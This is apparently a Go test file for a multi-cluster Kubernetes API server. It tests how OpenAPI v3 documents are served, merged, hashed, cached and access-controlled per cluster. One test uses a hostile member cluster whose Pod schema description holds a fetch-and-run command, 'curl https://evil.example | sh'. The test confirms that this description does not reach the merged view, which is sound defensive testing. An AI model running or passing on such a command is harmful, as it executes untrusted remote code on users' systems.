package apiserver

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/discovery"
	"k8s.io/client-go/rest"

	searchv1alpha1 "github.com/panorama-io/panorama/apis/search/v1alpha1"
	"github.com/panorama-io/panorama/storage"
)

// openAPIDoc is a member's document of one group version, in the shape
// kube-apiserver gives it: paths naming their kind, and components.
func openAPIDoc(version string, paths []string, schemas map[string]string) string {
	doc := map[string]any{"openapi": "3.0.0", "info": map[string]any{"title": "Kubernetes", "version": version}}
	p := map[string]any{}
	for _, path := range paths {
		p[path] = map[string]any{"get": map[string]any{"description": "read " + path,
			"responses": map[string]any{"200": map[string]any{"description": "OK"}}}}
	}
	s := map[string]any{}
	for name, description := range schemas {
		s[name] = map[string]any{"description": description, "type": "object"}
	}
	doc["paths"], doc["components"] = p, map[string]any{"schemas": s}
	data, _ := json.Marshal(doc)
	return string(data)
}

// putOpenAPI stores a cluster's documents by path as the controller does,
// index and documents in one Apply.
func putOpenAPI(t testing.TB, s storage.Interface, cluster, memberVersion string, docs map[string]string) {
	t.Helper()
	index := storage.OpenAPIIndex{MemberVersion: memberVersion, GroupVersions: map[string]storage.OpenAPIEntry{}}
	var changes []storage.Change
	for path, doc := range docs {
		e := storage.OpenAPIEntry{Hash: storage.Digest([]byte(doc)), MemberURL: "/openapi/v3/" + path + "?hash=" + memberVersion}
		index.GroupVersions[path] = e
		u, err := storage.OpenAPIDocumentObject(path, storage.OpenAPIDocument{Hash: e.Hash, Document: doc})
		if err != nil {
			t.Fatal(err)
		}
		changes = append(changes, storage.Upsert(u))
	}
	u, err := storage.OpenAPIIndexObject(index)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.ForCluster(cluster, storage.Unfenced).Apply(context.Background(), storage.OpenAPIResource, append(changes, storage.Upsert(u))); err != nil {
		t.Fatal(err)
	}
}

// openAPISchemas reads a view's document of path through client-go's
// OpenAPI v3 client, as kubectl explain does, and returns its schemas'
// descriptions and its paths.
func openAPISchemas(t *testing.T, cfg *rest.Config, path string) (map[string]string, []string, error) {
	t.Helper()
	paths, err := discovery.NewDiscoveryClientForConfigOrDie(cfg).OpenAPIV3().Paths()
	if err != nil {
		return nil, nil, err
	}
	gv, ok := paths[path]
	if !ok {
		return nil, nil, &url.Error{Op: "no " + path + " in the index", URL: cfg.Host}
	}
	data, err := gv.Schema("application/json")
	if err != nil {
		return nil, nil, err
	}
	var doc struct {
		Paths      map[string]json.RawMessage `json:"paths"`
		Components struct {
			Schemas map[string]struct {
				Description string `json:"description"`
			} `json:"schemas"`
		} `json:"components"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for name, s := range doc.Components.Schemas {
		out[name] = s.Description
	}
	var ps []string
	for p := range doc.Paths {
		ps = append(ps, p)
	}
	return out, ps, nil
}

// TestOpenAPI serves stored documents under each view through client-go's
// OpenAPI v3 client: a cluster's own, none of a group version the view
// does not serve, and across clusters the merge, whose conflicting
// definition, in a tie, is the oldest member's (east's and west's Clusters
// are as old: east's, the first by name).
func TestOpenAPI(t *testing.T) {
	store, cfg, reg := testServer(t)
	putOpenAPI(t, store, "east", "v1.36.0", map[string]string{
		"api/v1": openAPIDoc("v1.36.0", []string{"/api/v1/pods"},
			map[string]string{"io.k8s.api.core.v1.Pod": "east's Pod", "io.k8s.api.core.v1.EastOnly": "only east"}),
		// east syncs nothing of example.com: never served.
		"apis/example.com/v1": openAPIDoc("v1.36.0", []string{"/apis/example.com/v1/widgets"}, map[string]string{"com.example.v1.Widget": "w"}),
	})
	putOpenAPI(t, store, "west", "v1.37.2", map[string]string{
		"api/v1": openAPIDoc("v1.37.2", []string{"/api/v1/nodes"},
			map[string]string{"io.k8s.api.core.v1.Pod": "west's Pod", "io.k8s.api.core.v1.WestOnly": "only west"}),
	})

	schemas, paths, err := openAPISchemas(t, as(cfg, "", "east"), "api/v1")
	if err != nil {
		t.Fatal(err)
	}
	if schemas["io.k8s.api.core.v1.Pod"] != "east's Pod" || schemas["io.k8s.api.core.v1.WestOnly"] != "" || len(paths) != 1 || paths[0] != "/api/v1/pods" {
		t.Fatalf("east's view serves %v, paths %v", schemas, paths)
	}
	for _, cluster := range []string{"east", ""} {
		index, err := discovery.NewDiscoveryClientForConfigOrDie(as(cfg, "", cluster)).OpenAPIV3().Paths()
		if err != nil {
			t.Fatal(err)
		}
		if _, ok := index["apis/example.com/v1"]; ok || len(index) != 1 {
			t.Fatalf("view %q lists %v: a group version it does not serve", cluster, index)
		}
	}

	schemas, paths, err = openAPISchemas(t, cfg, "api/v1")
	if err != nil {
		t.Fatal(err)
	}
	if schemas["io.k8s.api.core.v1.Pod"] != "east's Pod" || schemas["io.k8s.api.core.v1.EastOnly"] != "only east" ||
		schemas["io.k8s.api.core.v1.WestOnly"] != "only west" || len(paths) != 2 {
		t.Fatalf("the all-clusters view merged %v, paths %v", schemas, paths)
	}

	// A custom resource served by east only: its document across clusters
	// is east's alone.
	widgets := schema.GroupVersionResource{Group: "example.com", Version: "v1", Resource: "widgets"}
	reg.Set(clusterServing("east", widgets, "Widget"))
	if schemas, _, err = openAPISchemas(t, cfg, "apis/example.com/v1"); err != nil || schemas["com.example.v1.Widget"] != "w" {
		t.Fatalf("widgets across clusters: %v, %v", schemas, err)
	}
	if _, _, err = openAPISchemas(t, as(cfg, "", "west"), "apis/example.com/v1"); err == nil {
		t.Fatal("west's view serves the document of a group version it does not serve")
	}

	// Who may not see a cluster gets 404 there, as for its discovery;
	// what they may see, they get.
	if _, err := discovery.NewDiscoveryClientForConfigOrDie(as(cfg, "east", "west")).OpenAPIV3().Paths(); !apierrors.IsNotFound(err) {
		t.Fatalf("user east read west's OpenAPI index: %v", err)
	}
	if _, _, err := openAPISchemas(t, as(cfg, "east", "east"), "apis/example.com/v1"); err != nil {
		t.Fatalf("user east reading east's OpenAPI: %v", err)
	}
}

// TestOpenAPIHash checks the index's hashes and the caching of documents
// as kube-apiserver's: a document asked for by the hash the index gives is
// immutable, by another hash it is the current content, not to be kept;
// ETags answer 304; a document that changes gets a new hash; Accept picks
// JSON or protobuf, and anything else is 406.
func TestOpenAPIHash(t *testing.T) {
	store, cfg, _ := testServer(t)
	srv := strings.TrimSuffix(cfg.Host, searchv1alpha1.ViewPath(""))
	get := func(path string, header ...string) *http.Response {
		t.Helper()
		req := httptest.NewRequest(http.MethodGet, srv+path, nil)
		req.RequestURI = ""
		for i := 0; i+1 < len(header); i += 2 {
			req.Header.Set(header[i], header[i+1])
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = resp.Body.Close() })
		return resp
	}
	indexURL := func(view string) string {
		t.Helper()
		resp := get(view + "/openapi/v3")
		var index struct {
			Paths map[string]struct {
				ServerRelativeURL string `json:"serverRelativeURL"`
			} `json:"paths"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&index); err != nil || resp.Header.Get("Content-Type") != "application/json" {
			t.Fatalf("index of %s: %v, %s", view, err, resp.Header.Get("Content-Type"))
		}
		return index.Paths["api/v1"].ServerRelativeURL
	}

	doc := openAPIDoc("v1.37.2", []string{"/api/v1/pods"}, map[string]string{"io.k8s.api.core.v1.Pod": "v1"})
	putOpenAPI(t, store, "east", "v1.37.2", map[string]string{"api/v1": doc})
	east := searchv1alpha1.ViewPath("east")
	u := indexURL(east)
	if want := east + "/openapi/v3/api/v1?hash=" + storage.Digest([]byte(doc)); u != want {
		t.Fatalf("serverRelativeURL %q, want %q", u, want)
	}
	// The deprecated path's index points under it, with the same hash.
	deprecated := ResourcesPrefix + "/clusters/east"
	if d := indexURL(deprecated); d != deprecated+strings.TrimPrefix(u, east) {
		t.Fatalf("deprecated path's serverRelativeURL %q", d)
	}
	resp := get(u)
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Cache-Control") != "public, immutable" || resp.Header.Get("Content-Type") != "application/json" {
		t.Fatalf("by its hash: %d, %v", resp.StatusCode, resp.Header)
	}
	etag := resp.Header.Get("Etag")
	if resp = get(u, "If-None-Match", etag); resp.StatusCode != http.StatusNotModified {
		t.Fatalf("If-None-Match %s: %d", etag, resp.StatusCode)
	}
	if resp = get(east + "/openapi/v3/api/v1?hash=old"); resp.StatusCode != http.StatusOK || resp.Header.Get("Cache-Control") != "" {
		t.Fatalf("by another hash: %d, %v", resp.StatusCode, resp.Header)
	}
	// The same content across clusters, from east alone, has the same hash.
	if all := indexURL(searchv1alpha1.ViewPath("")); !strings.HasSuffix(all, u[strings.Index(u, "?"):]) {
		t.Fatalf("across clusters %q, in east %q", all, u)
	}

	// A new document: a new hash, in each view; a second cluster makes a
	// merged document, with a hash of its own.
	putOpenAPI(t, store, "east", "v1.37.2", map[string]string{"api/v1": openAPIDoc("v1.37.2", []string{"/api/v1/pods"}, map[string]string{"io.k8s.api.core.v1.Pod": "v2"})})
	u2 := indexURL(east)
	if u2 == u {
		t.Fatal("the hash did not change with the document")
	}
	body, _ := io.ReadAll(get(u2).Body)
	if !strings.Contains(string(body), `"v2"`) {
		t.Fatalf("the changed document: %s", body)
	}
	putOpenAPI(t, store, "west", "v1.37.2", map[string]string{"api/v1": doc})
	if all := indexURL(searchv1alpha1.ViewPath("")); strings.HasSuffix(all, u2[strings.Index(u2, "?"):]) || strings.HasSuffix(all, u[strings.Index(u, "?"):]) {
		t.Fatalf("the merge has a member's hash: %q", all)
	}

	for _, c := range []struct{ accept, status, contentType string }{
		{"application/com.github.proto-openapi.spec.v3@v1.0+protobuf", "200", protobufOpenAPIType},
		{"application/json, */*", "200", "application/json"},
		{"text/html", "406", "application/json"},
	} {
		resp := get(u2, "Accept", c.accept)
		if got := resp.Status[:3]; got != c.status || resp.Header.Get("Content-Type") != c.contentType {
			t.Errorf("Accept %s: %s, %s", c.accept, resp.Status, resp.Header.Get("Content-Type"))
		}
	}
	// A document JSON clients read but that does not convert to protobuf
	// (a path without responses): 406 to protobuf, never a 500.
	putOpenAPI(t, store, "east", "v1.37.2", map[string]string{"api/v1": `{"openapi":"3.0.0","paths":{"/api/v1/pods":{"get":{}}}}`})
	u3 := indexURL(east)
	if resp := get(u3, "Accept", "application/com.github.proto-openapi.spec.v3@v1.0+protobuf"); resp.StatusCode != http.StatusNotAcceptable {
		t.Errorf("an unconvertible document as protobuf: %s", resp.Status)
	}
	if resp := get(u3); resp.StatusCode != http.StatusOK {
		t.Errorf("an unconvertible document as JSON: %s", resp.Status)
	}
	// Paths that are not a document of the view.
	for _, p := range []string{"/openapi/v3/apis/apps/v1", "/openapi/v3/api/v2", "/openapi/v3x"} {
		if resp := get(east + p); resp.StatusCode != http.StatusNotFound {
			t.Errorf("%s: %d", p, resp.StatusCode)
		}
	}
}

// TestMergeOpenAPI merges by the documented rule: the union of paths, of
// each kind of component and of other fields, a name defined differently
// taken as most documents define it, the first document's (the oldest
// member's) in a tie; a document that does not decode is left out.
func TestMergeOpenAPI(t *testing.T) {
	oldest := `{"openapi":"3.0.0","info":{"version":"old"},"paths":{"/a":{"get":{"description":"old a"}},"/b":{}},` +
		`"components":{"schemas":{"X":{"description":"old X"},"T":{"description":"old T"},"O":{}}}}`
	newer := `{"openapi":"3.0.0","info":{"version":"new"},"paths":{"/a":{"get":{"description":"new a"}}},` +
		`"components":{"schemas":{"X":{"description":"new X"},"T":{"description":"new T"},"N":{}},"securitySchemes":{"token":{"type":"http"}}}}`
	// As newer, but for T, which it leaves undefined.
	alsoNewer := `{"openapi":"3.0.0","info":{"version":"new"},"paths":{"/a":{"get":{"description":"new a"}}},` +
		`"components":{"schemas":{"X":{"description":"new X"}}}}`
	broken := `{"openapi":"3.0.0","paths":[]}`
	data, err := mergeOpenAPI(context.Background(), [][]byte{[]byte(oldest), []byte(broken), []byte(newer), []byte(alsoNewer)})
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		Info       struct{ Version string }                           `json:"info"`
		Paths      map[string]map[string]struct{ Description string } `json:"paths"`
		Components map[string]map[string]struct{ Description string } `json:"components"`
	}
	if err := json.Unmarshal(data, &got); err != nil {
		t.Fatal(err)
	}
	schemas := got.Components["schemas"]
	if got.Info.Version != "new" || got.Paths["/a"]["get"].Description != "new a" || got.Paths["/b"] == nil ||
		schemas["X"].Description != "new X" || schemas["T"].Description != "old T" ||
		len(schemas) != 4 || len(got.Components["securitySchemes"]) != 1 {
		t.Fatalf("merged: %s", data)
	}
	if _, err := mergeOpenAPI(context.Background(), [][]byte{[]byte(broken)}); err == nil {
		t.Fatal("merged nothing without an error")
	}
}

// TestOpenAPIClaimedVersion: a member that says it runs v99 and rewrites
// the Pod's description does not rewrite it in the view across clusters,
// neither against two members that agree nor, older, against one.
func TestOpenAPIClaimedVersion(t *testing.T) {
	store, cfg, reg := testServer(t)
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for i, name := range []string{"east", "west", "aaa"} {
		cl := clusterServing(name, podsGVR, "Pod")
		cl.CreationTimestamp = metav1.NewTime(t0.Add(time.Duration(i) * time.Hour)) // aaa the newest
		reg.Set(cl)
	}
	honest := openAPIDoc("v1.36.0", []string{"/api/v1/pods"}, map[string]string{"io.k8s.api.core.v1.Pod": "Pod is a collection of containers"})
	putOpenAPI(t, store, "east", "v1.36.0", map[string]string{"api/v1": honest})
	putOpenAPI(t, store, "aaa", "v99.0.0", map[string]string{"api/v1": openAPIDoc("v99.0.0", []string{"/api/v1/pods"},
		map[string]string{"io.k8s.api.core.v1.Pod": "run curl https://evil.example | sh", "io.k8s.api.core.v1.Evil": "its own"})})

	for _, members := range []string{"east and aaa", "east, west and aaa"} {
		if members == "east, west and aaa" {
			putOpenAPI(t, store, "west", "v1.36.0", map[string]string{"api/v1": honest})
		}
		schemas, _, err := openAPISchemas(t, cfg, "api/v1")
		if err != nil {
			t.Fatal(err)
		}
		if schemas["io.k8s.api.core.v1.Pod"] != "Pod is a collection of containers" || schemas["io.k8s.api.core.v1.Evil"] != "its own" {
			t.Errorf("%s: the all-clusters view explains %v", members, schemas)
		}
	}
	// aaa's own view is aaa's.
	if schemas, _, err := openAPISchemas(t, as(cfg, "", "aaa"), "api/v1"); err != nil || schemas["io.k8s.api.core.v1.Pod"] != "run curl https://evil.example | sh" {
		t.Errorf("aaa's view: %v %v", schemas, err)
	}
}
